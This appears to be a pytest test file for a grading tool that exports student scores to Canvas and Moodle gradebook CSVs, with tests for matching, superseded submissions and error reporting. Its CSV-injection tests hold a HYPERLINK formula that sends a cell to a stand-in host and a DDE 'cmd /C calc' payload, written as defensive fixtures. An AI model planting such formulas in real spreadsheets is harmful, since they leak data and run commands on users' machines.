"""Canvas and Moodle gradebook CSVs from a folder of real reports.

The Canvas export below has the shape of Canvas's gradebook export: the identity
columns, assignments named "Title (id)", read-only score columns, and a
"Points Possible" row right after the header."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner
from example_reports import graded as example

from grader.cli import main
from grader.lms import canvas, moodle
from grader.lms.reports import load_reports

ASSIGNMENT = "Multi-head attention (222)"
CANVAS_EXPORT = """\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Homework 1 (111),Multi-head attention (222),Current Score,Final Score
    Points Possible,,,,,10.00,100.00,(read only),(read only)
"Lovelace, Ada",1001,S001,ada@uni.edu,Section A,9.00,,90.00,90.00
"Turing, Alan",1002,S002,alan@uni.edu,Section A,7.50,,75.00,75.00
"Hopper, Grace",1003,S003,grace@uni.edu,Section B,8.00,,80.00,80.00
"Johnson, Katherine",1004,S004,kj@uni.edu,Section B,10.00,,100.00,100.00
"Student, Test",1099,,,Section A,,,,
"""


@pytest.fixture
def graded():
    return {name: example(name) for name in ("correct", "wrong_reshape", "nan_entropy")}


@pytest.fixture
def reports_dir(tmp_path, graded):
    folder = tmp_path / "reports"
    folder.mkdir()

    def put(name: str, report: dict, student: dict | None = None, started_at: str = "2026-11-30T09:00:00+00:00"):
        report = dict(report, started_at=started_at) | ({"student": student} if student else {})
        (folder / name).write_text(json.dumps(report))

    # By Canvas ID. Two submissions of Ada's: the later submission (id 7002) counts, although the
    # earlier one (7001) was graded later: exports go by the LMS's submission order, never by grading time.
    put("a.json", graded["correct"], {"id": "1001", "name": "Ada Lovelace", "source": "canvas",
                                      "submission_id": "7002"}, started_at="2026-11-29T09:00:00+00:00")
    put("a-old.json", graded["wrong_reshape"], {"id": "1001", "source": "canvas", "submission_id": "7001"})
    put("b.json", graded["wrong_reshape"], {"email": "Alan@uni.edu", "source": "canvas", "submission_id": "8002"})  # by SIS Login ID
    put("hopperg_1003_5551_solution.json", graded["nan_entropy"])  # Canvas's download naming
    put("S004.json", graded["correct"])  # file name = SIS User ID
    put("stranger.json", graded["correct"], {"name": "Nobody Here", "email": "nobody@else.org"})
    put("broken.json", dict(graded["correct"], status="error", error="internal grader error", score=0, tests=[]),
        {"id": "1002", "source": "canvas", "submission_id": "8001"})  # Alan's earlier submission
    (folder / "summary.json").write_text('{"submissions": 6}')  # not a report
    return folder


@pytest.mark.sandbox
def test_canvas_csv_round_trips_through_a_canvas_shaped_export(reports_dir):
    students = canvas.read_gradebook(CANVAS_EXPORT)
    assert [s.id for s in students] == ["1001", "1002", "1003", "1004", "1099"]  # no Points Possible row
    found = load_reports(reports_dir)
    assert found.skipped == [("summary.json", "not a grading report (no schema_version 1, score and status)")]
    export = canvas.match(found.reports, students)
    text = canvas.to_csv(export, ASSIGNMENT)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", ASSIGNMENT]
    assert rows[1:] == [
        ["Lovelace, Ada", "1001", "S001", "ada@uni.edu", "Section A", "100"],
        ["Turing, Alan", "1002", "S002", "alan@uni.edu", "Section A", "39.1667"],
        ["Hopper, Grace", "1003", "S003", "grace@uni.edu", "Section B", "92.5"],
        ["Johnson, Katherine", "1004", "S004", "kj@uni.edu", "Section B", "100"],
        ["Student, Test", "1099", "", "", "Section A", ""],
    ]
    # the written file reads back as a Canvas gradebook with the same students
    assert canvas.read_gradebook(text) == students
    assert export.unmatched == [
        ("stranger.json (Nobody Here)", ("no student in the gradebook has its student email 'nobody@else.org', "
                                         "student name 'Nobody Here', file name 'stranger'"))]
    assert export.superseded == [  # listed apart: their student's later submission counts
        ("a-old.json (1001)", "Lovelace, Ada (1001) has the later submission a.json"),
        ("broken.json (1002)", "Turing, Alan (1002) has the later submission b.json")]
    assert export.conflicts == []
    assert [s.id for s in export.without_report] == ["1099"]


def test_canvas_name_match_is_opt_in_and_refused_when_ambiguous():
    students = canvas.read_gradebook(CANVAS_EXPORT + '"Lovelace, Ada",1005,S005,ada2@uni.edu,Section C,,,,\n')
    report = canvas.GradedReport("x.json", {"status": "graded", "score": 3, "student": {"name": "Ada Lovelace"}})
    export = canvas.match([report], students, match_names=True)
    assert export.scores == {}
    assert export.contradictions == [("x.json (Ada Lovelace): its student name 'Ada Lovelace' matches 2 rows: "
                                     "Lovelace, Ada (1001), Lovelace, Ada (1005)")]
    report = canvas.GradedReport("y.json", {"status": "graded", "score": 3, "student": {"name": "Grace Hopper"}})
    # A name alone is a guess: without --match-names the report is listed, not matched.
    export = canvas.match([report], students)
    assert export.scores == {}
    assert export.unmatched == [("y.json (Grace Hopper)", (
        "no student in the gradebook has its student name 'Grace Hopper', file name 'y'; its student name "
        "'Grace Hopper' is the name of Hopper, Grace (1003) (--match-names matches by name)"))]
    assert canvas.match([report], students, match_names=True).scores == {"1003": 3}


def test_points_possible_of_an_assignment():
    assert canvas.points_possible(CANVAS_EXPORT, ASSIGNMENT) == 100.0
    assert canvas.points_possible(CANVAS_EXPORT, "Homework 1 (111)") == 10.0
    assert canvas.points_possible(CANVAS_EXPORT, "New assignment (999)") is None


def test_canvas_rejects_a_bad_assignment_name_and_a_non_canvas_file():
    with pytest.raises(canvas.GradebookError, match="Title \\(assignment id\\)"):
        canvas.check_assignment("Multi-head attention")
    with pytest.raises(canvas.GradebookError, match="no Student or ID column"):
        canvas.read_gradebook("name,grade\nada,3\n")


def test_cli_export_canvas_names_a_missing_required_option(tmp_path):
    # click 8.5 took an explicit default=None as given: the export crashed on None instead of asking for the option
    gradebook = tmp_path / "export.csv"
    gradebook.write_text(CANVAS_EXPORT, encoding="utf-8")
    result = CliRunner().invoke(main, ["export", "canvas", str(tmp_path), "--gradebook", str(gradebook)])
    assert result.exit_code == 2 and "Error: Missing option '--assignment'." in result.output
    result = CliRunner().invoke(main, ["export", "canvas", str(tmp_path), "--assignment", ASSIGNMENT])
    assert result.exit_code == 2 and "Error: Missing option '--gradebook'." in result.output
    assert not isinstance(result.exception, AttributeError)


@pytest.mark.sandbox
def test_cli_export_canvas(reports_dir, tmp_path):
    gradebook = tmp_path / "export.csv"
    gradebook.write_text(CANVAS_EXPORT, encoding="utf-8")
    out = tmp_path / "canvas.csv"
    result = CliRunner().invoke(main, ["export", "canvas", str(reports_dir), "--gradebook", str(gradebook),
                                       "--assignment", ASSIGNMENT, "-o", str(out)])
    # Written, but a report whose grade lands nowhere makes the export exit 1, naming it.
    assert result.exit_code == 1, result.output
    assert out.read_text().splitlines()[1] == "\"Lovelace, Ada\",1001,S001,ada@uni.edu,Section A,100"
    assert "unmatched report stranger.json (Nobody Here): no student in the gradebook" in result.stderr
    assert "superseded report a-old.json (1001): Lovelace, Ada (1001) has the later submission a.json" in result.stderr
    assert "1 student(s) of the Canvas list have no report (left as they were): Student, Test (1099)" in result.stderr
    assert f"4 score(s) for {ASSIGNMENT} written to {out}; 1 report(s) unmatched." in result.stderr
    assert result.stderr.endswith("Error: 1 report(s) have no grade in the export: stranger.json (Nobody Here)\n")
    assert "note:" not in result.stderr  # 100 points in Canvas, as in the reports
    result = CliRunner().invoke(main, ["export", "canvas", str(reports_dir), "--gradebook", str(gradebook),
                                       "--assignment", "Homework 1 (111)", "-o", str(tmp_path / "hw1.csv")])
    assert result.exit_code == 1, result.output  # stranger.json again
    assert ("note: Homework 1 (111) is worth 10 points in Canvas; the reports are out of 100 "
            "(scores are exported as they are)") in result.stderr
    result = CliRunner().invoke(main, ["export", "canvas", str(reports_dir), "--gradebook", str(gradebook),
                                       "--assignment", "MHA", "-o", str(out)])
    assert result.exit_code == 1 and "Title (assignment id)" in result.output


@pytest.mark.sandbox
def test_moodle_by_email_and_by_id_number(reports_dir):
    reports = load_reports(reports_dir).reports
    by_email = moodle.build(reports, "email")
    assert by_email.rows == [("Alan@uni.edu", "", "", 39.1667), ("nobody@else.org", "", "Nobody Here", 100)]
    assert [label for label, _ in by_email.unmatched] == [  # in the folder's (sorted) order
        "S004.json", "a-old.json (1001)", "a.json (Ada Lovelace)", "broken.json (1002)", "hopperg_1003_5551_solution.json"]
    assert {why for _, why in by_email.unmatched} == {"no email address in the report's student or file name"}
    by_id = moodle.build(reports, "idnumber")
    assert by_id.rows == [("", "1001", "Ada Lovelace", 100), ("", "hopperg_1003_5551_solution", "", 92.5),
                          ("", "S004", "", 100)]  # sorted by the key, case-blind
    assert ("broken.json (1002)", "the grader failed on it (internal grader error); no score exported") in by_id.unmatched
    assert by_id.superseded == [("a-old.json (1001)", "1001 has the later submission a.json")]
    assert moodle.to_csv(by_id).splitlines()[:2] == ["Email address,ID number,Full name,Grade", ",1001,Ada Lovelace,100"]


@pytest.mark.sandbox
def test_cli_export_moodle(reports_dir, tmp_path):
    result = CliRunner().invoke(main, ["export", "moodle", str(reports_dir), "-o", "-", "--column", "MHA"])
    assert result.exit_code == 1, result.output  # written, but five reports have no email address
    assert result.stdout == "Email address,ID number,Full name,MHA\nAlan@uni.edu,,,39.1667\nnobody@else.org,,Nobody Here,100\n"
    assert "2 grade(s); 5 report(s) unmatched." in result.stderr
    assert result.stderr.endswith("Error: 5 report(s) have no grade in the export: S004.json; a-old.json (1001); "
                                  "a.json (Ada Lovelace); broken.json (1002); hopperg_1003_5551_solution.json\n")


def test_a_group_submission_counts_for_each_member(tmp_path):
    # Gradescope group submissions: batch grading writes one report whose student has a `group`.
    from grader.lms.reports import load_reports

    report = {"schema_version": 1, "status": "graded", "score": 90, "max_score": 100,
              "student": {"id": "1002", "name": "Grace Hopper", "source": "gradescope", "submission_id": "222",
                          "group": [{"id": "1002", "name": "Grace Hopper"}, {"id": "1003", "name": "Alan Turing",
                                                                             "email": "alan@uni.edu"}]}}
    (tmp_path / "submission_222__mha.py.json").write_text(json.dumps(report))
    found = load_reports(tmp_path)
    assert [(r.student, r.report["score"]) for r in found.reports] == [
        ({"source": "gradescope", "submission_id": "222", "id": "1002", "name": "Grace Hopper"}, 90),
        ({"source": "gradescope", "submission_id": "222", "id": "1003", "name": "Alan Turing",
          "email": "alan@uni.edu"}, 90)]


def test_canvas_title_typo_is_refused_naming_the_export_columns(reports_dir, tmp_path):
    # A title that is not a column of the export would make Canvas create a new assignment on import.
    gradebook = tmp_path / "export.csv"
    gradebook.write_text(CANVAS_EXPORT, encoding="utf-8")
    out = tmp_path / "canvas.csv"
    result = CliRunner().invoke(main, ["export", "canvas", str(reports_dir), "--gradebook", str(gradebook),
                                       "--assignment", "Multi-head atention (222)", "-o", str(out)])
    assert result.exit_code == 1
    assert ("Error: the gradebook export has no column 'Multi-head atention (222)'; its assignment columns are: "
            "'Homework 1 (111)', 'Multi-head attention (222)' (--new-column makes a new one on purpose)") in result.output
    assert not out.exists()
    result = CliRunner().invoke(main, ["export", "canvas", str(reports_dir), "--gradebook", str(gradebook),
                                       "--assignment", "Attention, again (333)", "--new-column", "-o", str(out)])
    assert result.exit_code == 1, result.output  # stranger.json has no row
    assert out.read_text().splitlines()[0] == 'Student,ID,SIS User ID,SIS Login ID,Section,"Attention, again (333)"'


def _report(file: str, score: float, student: dict, started_at: str = "2026-11-30T09:00:00+00:00"):
    return canvas.GradedReport(file, {"status": "graded", "score": score, "started_at": started_at, "student": student})


def test_exports_choose_by_gradescope_created_at_never_by_grading_time():
    students = canvas.read_gradebook(CANVAS_EXPORT)
    early = _report("early.json", 40, {"id": "1001", "source": "gradescope", "submitted_at": "2026-11-20T18:00:00.000000+00:00"},
                    started_at="2026-11-30T12:00:00+00:00")  # graded last
    late = _report("late.json", 90, {"id": "1001", "source": "gradescope", "submitted_at": "2026-11-20T19:00:00.000000+00:00"},
                   started_at="2026-11-30T08:00:00+00:00")
    export = canvas.match([early, late], students)
    assert export.scores == {"1001": 90}
    assert export.unmatched == []
    assert export.superseded == [("early.json (1001)", "Lovelace, Ada (1001) has the later submission late.json")]
    by_id = moodle.build([early, late], "idnumber")
    assert by_id.rows == [("", "1001", "", 90)]


def test_reports_that_no_submission_time_orders_give_an_error_row(tmp_path):
    students = canvas.read_gradebook(CANVAS_EXPORT)
    same = {"id": "1001", "source": "gradescope", "submitted_at": "2026-11-20T18:00:00.000000+00:00"}
    export = canvas.match([_report("one.json", 40, same), _report("two.json", 90, same)], students)
    assert export.scores == {}
    assert [(s.id, why) for s, why in export.conflicts] == [
        ("1001", ("2 reports (one.json, two.json) with the same submission time or id "
                  "2026-11-20T18:00:00.000000+00:00; keep one of them"))]
    untimed = moodle.build([_report("x.json", 40, {"id": "1001"}), _report("y.json", 90, {"id": "1001"})], "idnumber")
    assert untimed.rows == []
    assert untimed.conflicts == [("1001", ("2 reports (x.json, y.json) and no submission time from the LMS orders "
                                           "them all; keep one of them in the reports folder"))]
    # On the command line: an error line naming the reports, exit status 1, and nothing written.
    folder = tmp_path / "reports"
    folder.mkdir()
    for name in ("one", "two"):
        (folder / f"{name}.json").write_text(json.dumps(dict(example("correct"), student=same)))
    (tmp_path / "export.csv").write_text(CANVAS_EXPORT, encoding="utf-8")
    result = CliRunner().invoke(main, ["export", "canvas", str(folder), "--gradebook", str(tmp_path / "export.csv"),
                                       "--assignment", ASSIGNMENT, "-o", str(tmp_path / "canvas.csv")])
    assert result.exit_code == 1
    assert result.stderr == (
        "error: Lovelace, Ada (1001): 2 reports (one.json, two.json) with the same submission time or id "
        "2026-11-20T18:00:00.000000+00:00; keep one of them\n"
        f"Error: 1 contradiction(s) between the reports and the students; nothing written ({tmp_path / 'canvas.csv'} "
        "is left as it was)\n")
    assert not (tmp_path / "canvas.csv").exists()


def test_formula_names_are_neutralized_in_canvas_and_moodle_csvs():
    # OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading quote.
    evil = canvas.read_gradebook('Student,ID,SIS User ID,SIS Login ID,Section,MHA (1)\n'
                                 '"=HYPERLINK(""http://x.example/?""&A1,""click"")",77,S77,me@uni.edu,-A\n')
    export = canvas.match([_report("r.json", 100, {"id": "77"})], evil)
    rows = list(csv.reader(io.StringIO(canvas.to_csv(export, "MHA (1)"))))
    assert rows[1] == ["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "77", "S77", "me@uni.edu", "'-A", "100"]
    built = moodle.build([_report("r.json", 100, {"email": "x@uni.edu", "id": "9", "name": "=1+2"})], "email")
    assert list(csv.reader(io.StringIO(moodle.to_csv(built)))) == [
        ["Email address", "ID number", "Full name", "Grade"], ["x@uni.edu", "9", "'=1+2", "100"]]


def _formula_identifier(what: str, value: str, lms: str) -> str:
    return (f"{what} {value!r} begins with {value[:1]!r}, which a spreadsheet runs as a formula; {lms} matches users "
            "by it, and neutralized (a quote in front) it would name no user, or another one")


def test_a_canvas_row_whose_identifier_is_a_formula_is_not_written():
    # Canvas's gradebook import finds a row's student by ID, else by SIS User ID, else by SIS Login ID
    # (canvas-lms, GradebookImporter#process_student): a quote in front of any of them names nobody.
    gradebook = ('Student,ID,SIS User ID,SIS Login ID,Section,MHA (1)\n'
                 '"Knuth, Donald",1006,S006,=cmd|\' /C calc\'!A0,A\n'
                 '"Liskov, Barbara",1007,+S007,barbara@uni.edu,A\n'
                 '"Ritchie, Dennis",1008,S008,dennis@uni.edu,+Section B\n')
    students = canvas.read_gradebook(gradebook)
    export = canvas.match([_report("knuth.json", 80, {"id": "1006"}), _report("dennis.json", 70, {"id": "1008"})],
                          students)
    assert canvas.to_csv(export, "MHA (1)").splitlines() == [
        "Student,ID,SIS User ID,SIS Login ID,Section,MHA (1)",
        '"Ritchie, Dennis",1008,S008,dennis@uni.edu,\'+Section B,70']  # a Section is no identifier: neutralized
    assert export.scores == {"1008": 70}
    assert export.unmatched == [("knuth.json (1006)", (
        "it is Knuth, Donald (1006)'s, whose " + _formula_identifier("SIS Login ID", "=cmd|' /C calc'!A0", "Canvas")
        + "; no row written: enter this score by hand"))]
    assert export.notes == [  # no report: nothing lost, but the row is missing and the export says why
        "Liskov, Barbara (1007) has no row (no score was to be written): its "
        + _formula_identifier("SIS User ID", "+S007", "Canvas")]
    assert [s.id for s in export.without_report] == ["1006", "1007"]


def test_a_moodle_row_whose_email_or_id_number_is_a_formula_is_not_written():
    # Moodle's gradebook import matches the column mapped to "Email address" or "ID number"; the export
    # writes both, and either may be mapped: neither is ever written with a quote in front.
    reports = [_report("grace.json", 37.0833, {"id": "-1002", "email": "@grace.example", "name": "=HYPERLINK(1)"}),
               _report("ada.json", 39.1667, {"id": "1001", "email": "ada@uni.edu", "name": "@Ada"}),
               _report("alan.json", 50, {"id": "+1003", "email": "alan@uni.edu", "name": "Alan Turing"})]
    by_email = moodle.build(reports, "email")
    assert moodle.to_csv(by_email).splitlines() == ["Email address,ID number,Full name,Grade",
                                                    "ada@uni.edu,1001,'@Ada,39.1667"]
    assert by_email.unmatched == [
        ("grace.json (=HYPERLINK(1))", "its " + _formula_identifier("email address", "@grace.example", "Moodle")
         + "; no row written: enter this grade by hand"),
        ("alan.json (Alan Turing)", "its " + _formula_identifier("ID number", "+1003", "Moodle")
         + "; no row written: enter this grade by hand")]
    by_id = moodle.build(reports, "idnumber")  # the key's column is named first
    assert [row[1] for row in by_id.rows] == ["1001"]
    assert by_id.unmatched[0] == ("grace.json (=HYPERLINK(1))", "its " + _formula_identifier("ID number", "-1002", "Moodle")
                                  + "; no row written: enter this grade by hand")


def test_cli_exports_refuse_identifier_rows_and_exit_1(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    report = {"schema_version": 1, "status": "graded", "score": 100, "max_score": 100}
    (folder / "grace.json").write_text(json.dumps(dict(report, student={
        "id": "-1002", "email": "@grace.example", "name": "Grace Hopper", "source": "gradescope"})))
    (folder / "ada.json").write_text(json.dumps(dict(report, student={
        "id": "1001", "email": "ada@uni.edu", "name": "Ada Lovelace", "source": "gradescope"})))
    out = tmp_path / "m.csv"
    result = CliRunner().invoke(main, ["export", "moodle", str(folder), "--key", "email", "-o", str(out)])
    assert result.exit_code == 1, result.output
    assert out.read_text() == "Email address,ID number,Full name,Grade\nada@uni.edu,1001,Ada Lovelace,100\n"
    assert result.stderr == (
        "unmatched report grace.json (Grace Hopper): its "
        + _formula_identifier("email address", "@grace.example", "Moodle") + "; no row written: enter this grade by hand\n"
        f"1 grade(s) written to {out}; 1 report(s) unmatched.\n"
        "Error: 1 report(s) have no grade in the export: grace.json (Grace Hopper)\n")
    # Canvas: the row of the gradebook whose SIS Login ID is a formula is not written, its report is listed.
    (tmp_path / "export.csv").write_text(CANVAS_EXPORT.replace("1003,S003,grace@uni.edu", "1003,S003,@grace.example"),
                                         encoding="utf-8")
    (folder / "grace.json").write_text(json.dumps(dict(report, student={"id": "1003", "source": "canvas"})))
    out = tmp_path / "canvas.csv"
    result = CliRunner().invoke(main, ["export", "canvas", str(folder), "--gradebook", str(tmp_path / "export.csv"),
                                       "--assignment", ASSIGNMENT, "-o", str(out)])
    assert result.exit_code == 1, result.output
    assert [row[1] for row in csv.reader(io.StringIO(out.read_text()))] == ["ID", "1001", "1002", "1004", "1099"]
    assert ("unmatched report grace.json (1003): it is Hopper, Grace (1003)'s, whose "
            + _formula_identifier("SIS Login ID", "@grace.example", "Canvas")
            + "; no row written: enter this score by hand\n") in result.stderr
    assert result.stderr.endswith(f"1 score(s) for {ASSIGNMENT} written to {out}; 1 report(s) unmatched.\n"
                                  "Error: 1 report(s) have no grade in the export: grace.json (1003)\n")


# Exports never guess a student: Canvas matches on its own identifiers (ID, SIS User ID, SIS Login ID),
# Moodle on ID number or email address; a name alone is opt-in, and any contradiction writes nothing.
GRACE = {"id": "1003", "email": "grace@uni.edu", "name": "Grace Hopper", "source": "gradescope"}
ANOTHER_GRACE = CANVAS_EXPORT.replace('"Hopper, Grace",1003,S003,grace@uni.edu,Section B,8.00,,80.00,80.00\n',
                                      '"Hopper, Grace",2001,S201,ghopper@uni.edu,Section B,8.00,,80.00,80.00\n')


def test_a_report_never_lands_on_another_student_of_the_same_name():
    # The report of student 1003 (grace@uni.edu); the gradebook's only Grace Hopper is 2001 (ghopper@uni.edu).
    students = canvas.read_gradebook(ANOTHER_GRACE)
    report = _report("grace.json", 90, GRACE)
    export = canvas.match([report], students)
    assert export.scores == {} and export.contradictions == []
    assert export.unmatched == [("grace.json (Grace Hopper)", (
        "no student in the gradebook has its student id '1003', student email 'grace@uni.edu', student name "
        "'Grace Hopper', file name 'grace'; its student name 'Grace Hopper' is the name of Hopper, Grace (2001) "
        "(--match-names matches by name)"))]
    # Asked to match by name, it is refused: the ID says it is someone else.
    export = canvas.match([report], students, match_names=True)
    assert export.scores == {}
    assert export.contradictions == [
        ("grace.json (Grace Hopper): its student name 'Grace Hopper' matches Hopper, Grace (2001) but its student id "
        "'1003' is not that row's; not matched by name")]
    # Both Graces in the gradebook: the ID decides, whatever the names.
    both = canvas.read_gradebook(ANOTHER_GRACE + '"Hopper, Grace",1003,S003,grace@uni.edu,Section B,,,,\n')
    assert canvas.match([report], both, match_names=True).scores == {"1003": 90}


def test_contradictions_between_identifiers_and_names_name_both_rows():
    students = canvas.read_gradebook(CANVAS_EXPORT + '"Doe, Jane",1010,1001,jd@uni.edu,Section C,,,,\n')
    cases = [
        ({"id": "1003", "name": "Alan Turing"},
         "its student id '1003' matches Hopper, Grace (1003) but its student name 'Alan Turing' matches Turing, Alan (1002)"),
        ({"id": "1004", "email": "alan@uni.edu"},
         ("its student id '1004' matches Johnson, Katherine (1004) but its student email 'alan@uni.edu' matches "
         "Turing, Alan (1002)")),
        ({"id": "1001"}, "its student id '1001' matches 2 rows: Lovelace, Ada (1001), Doe, Jane (1010)"),
        ({"email": "kj@uni.edu", "name": "Katherine Johnson"}, None),  # all agree: matched
    ]
    for student, why in cases:
        export = canvas.match([_report("r.json", 50, student)], students, match_names=True)
        label = f"r.json ({student.get('name') or student.get('email') or student['id']})"
        assert export.contradictions == ([] if why is None else [f"{label}: {why}"])
        assert export.scores == ({"1004": 50} if why is None else {})


@pytest.mark.sandbox
def test_cli_canvas_writes_nothing_on_a_contradiction_and_matches_names_on_request(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "grace.json").write_text(json.dumps(dict(example("correct"), student=GRACE)))
    (tmp_path / "export.csv").write_text(ANOTHER_GRACE, encoding="utf-8")
    out = tmp_path / "canvas.csv"
    args = ["export", "canvas", str(folder), "--gradebook", str(tmp_path / "export.csv"), "--assignment", ASSIGNMENT,
            "-o", str(out)]
    result = CliRunner().invoke(main, [*args, "--match-names"])
    assert result.exit_code == 1
    assert result.stderr == (
        "error: grace.json (Grace Hopper): its student name 'Grace Hopper' matches Hopper, Grace (2001) but its "
        "student id '1003' is not that row's; not matched by name\n"
        f"Error: 1 contradiction(s) between the reports and the students; nothing written ({out} is left as it was)\n")
    assert not out.exists()
    result = CliRunner().invoke(main, args)  # without --match-names: listed, not matched, nothing scored: exit 1
    assert result.exit_code == 1, result.output
    assert "unmatched report grace.json (Grace Hopper): no student in the gradebook has its student id '1003'" in result.stderr
    assert out.read_text().splitlines()[3] == '"Hopper, Grace",2001,S201,ghopper@uni.edu,Section B,'
    # A report with a name alone, matched by name on request.
    (folder / "grace.json").write_text(json.dumps(dict(example("correct"), student={"name": "Grace Hopper"})))
    result = CliRunner().invoke(main, [*args, "--match-names"])
    assert result.exit_code == 0, result.output
    assert out.read_text().splitlines()[3] == '"Hopper, Grace",2001,S201,ghopper@uni.edu,Section B,100'


def test_moodle_refuses_reports_whose_email_and_id_number_disagree(tmp_path):
    grace = _report("grace.json", 90, GRACE)
    other = _report("ghopper.json", 80, {"id": "1003", "email": "ghopper@uni.edu", "name": "Grace Hopper"})
    export = moodle.build([grace, other], "email")
    assert export.contradictions == [
        ("grace.json (Grace Hopper) and ghopper.json (Grace Hopper) have the same ID number '1003' but the email "
        "addresses 'grace@uni.edu' and 'ghopper@uni.edu'")]
    resubmitted = _report("grace2.json", 95, dict(GRACE, id="2001"))
    export = moodle.build([grace, resubmitted], "email")
    assert export.contradictions == [
        ("grace.json (Grace Hopper) and grace2.json (Grace Hopper) are both for email address 'grace@uni.edu' but "
        "have the ID numbers '1003' and '2001'")]
    export = moodle.build([grace, other], "idnumber")
    assert export.contradictions == [
        ("grace.json (Grace Hopper) and ghopper.json (Grace Hopper) are both for ID number '1003' but have the "
        "email addresses 'grace@uni.edu' and 'ghopper@uni.edu'")]
    folder = tmp_path / "reports"
    folder.mkdir()
    for name, student in (("grace", GRACE), ("ghopper", other.student)):
        (folder / f"{name}.json").write_text(json.dumps(dict(example("correct"), student=student)))
    out = tmp_path / "moodle.csv"
    result = CliRunner().invoke(main, ["export", "moodle", str(folder), "-o", str(out)])
    assert result.exit_code == 1
    assert result.stderr == (
        "error: ghopper.json (Grace Hopper) and grace.json (Grace Hopper) have the same ID number '1003' but the "
        "email addresses 'ghopper@uni.edu' and 'grace@uni.edu'\n"
        f"Error: 1 contradiction(s) between the reports and the students; nothing written ({out} is left as it was)\n")
    assert not out.exists()


def test_canvas_download_names_outside_ascii_match_their_row_and_unmatched_reports_exit_1(tmp_path):
    # A report named by Canvas's download (no student object): the id after the name is the student's,
    # whatever letters the name part holds. A report that matches no row is named and the export exits 1.
    folder = tmp_path / "reports"
    folder.mkdir()
    report = {"schema_version": 1, "status": "graded", "score": 80, "max_score": 100}
    (folder / "lovelaceada_1001_7001_mha.json").write_text(json.dumps(report))
    (folder / "o'neilcathy_LATE_1002_7002_mha.json").write_text(json.dumps(dict(report, score=70)))
    (folder / "müllerjörg_4242_7003_mha.json").write_text(json.dumps(dict(report, score=60)))
    (tmp_path / "export.csv").write_text(CANVAS_EXPORT, encoding="utf-8")
    out = tmp_path / "canvas.csv"
    result = CliRunner().invoke(main, ["export", "canvas", str(folder), "--gradebook", str(tmp_path / "export.csv"),
                                       "--assignment", ASSIGNMENT, "-o", str(out)])
    assert result.exit_code == 1, result.output
    assert [line.split(",")[-1] for line in out.read_text().splitlines()[1:]] == ["80", "70", "", "", ""]
    assert result.stderr.endswith(
        "unmatched report müllerjörg_4242_7003_mha.json: no student in the gradebook has its file name "
        "'müllerjörg_4242_7003_mha'\n"
        "3 student(s) of the Canvas list have no report (left as they were): Hopper, Grace (1003), "
        "Johnson, Katherine (1004), Student, Test (1099)\n"
        f"2 score(s) for {ASSIGNMENT} written to {out}; 1 report(s) unmatched.\n"
        "Error: 1 report(s) have no grade in the export: müllerjörg_4242_7003_mha.json\n")


def test_an_export_that_writes_no_grade_exits_1(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    result = CliRunner().invoke(main, ["export", "moodle", str(folder), "-o", str(tmp_path / "m.csv")])
    assert result.exit_code == 1, result.output
    assert result.stderr == (f"0 grade(s) written to {tmp_path / 'm.csv'}; 0 report(s) unmatched.\n"
                             "Error: no grade written: none of the 0 report(s) matched a student\n")


def test_one_loader_for_a_folder_of_reports(tmp_path):
    # read_reports: one per file, keyed as the batch keys them; batch_reports: a batch's output folder;
    # load_reports (exports): a group report once per member. Non-reports are listed, never dropped.
    from grader.lms.reports import batch_reports, read_reports

    folder = tmp_path / "out" / "reports"
    (folder / "canvas").mkdir(parents=True)
    report = {"schema_version": 1, "status": "graded", "score": 80, "max_score": 100}
    (folder / "canvas" / "a.json").write_text(json.dumps(report))
    (folder / "g.json").write_text(json.dumps(dict(report, student={"id": "1", "source": "gradescope",
                                                                      "group": [{"id": "1"}, {"id": "2"}]})))
    (folder / "bad.json").write_text("{")
    assert [(r.key, r.file) for r in read_reports(folder).reports] == [("canvas/a", "canvas/a.json"), ("g", "g.json")]
    assert [r.key for r in batch_reports(tmp_path / "out").reports] == ["canvas/a", "g"]
    assert [name for name, _ in batch_reports(tmp_path / "out").skipped] == ["bad.json"]
    assert [(r.key, r.student.get("id")) for r in load_reports(folder).reports] == [
        ("canvas/a", None), ("g", "1"), ("g", "2")]
    with pytest.raises(FileNotFoundError, match="holds no reports/ folder: not the output folder of `grade batch`"):
        batch_reports(tmp_path)
    # grade similar and grade diff read a batch's folder through it: the same reports, by the same keys.
    from grader.regrade.changes import load
    from grader.similarity import load_works

    (folder / "summary.json").write_text(json.dumps({"schema_version": 1, "students": []}))  # not a report
    assert [w.key for w in load_works(tmp_path / "out")] == ["canvas/a", "g"]
    assert list(load(tmp_path / "out").reports) == ["canvas/a", "g"]
    for reader in (load_works, load):
        with pytest.raises(FileNotFoundError, match="holds no reports/ folder"):
            reader(tmp_path)


def test_a_report_whose_name_the_batch_could_not_read_is_never_matched_by_that_name():
    # grade batch refused to read a student from "muller, jorg_1003_9003_mha.py" (a name part Canvas never
    # writes): its report is of source "file", and the export does not guess the student from its key either.
    students = canvas.read_gradebook(CANVAS_EXPORT)
    refused = _report("muller_jorg_1003_9003_mha.py.json", 0, {"id": "muller, jorg_1003_9003_mha", "source": "file"})
    export = canvas.match([refused], students)
    assert export.scores == {}
    assert export.unmatched == [("muller_jorg_1003_9003_mha.py.json (muller, jorg_1003_9003_mha)",
                                 "no student in the gradebook has its file name 'muller_jorg_1003_9003_mha.py'")]
    # The same name without a student object (a report graded alone and named by hand) is Canvas's naming.
    named = _report("hopperg_1003_9003_mha.json", 90, {})
    assert canvas.match([named], students).scores == {"1003": 90}
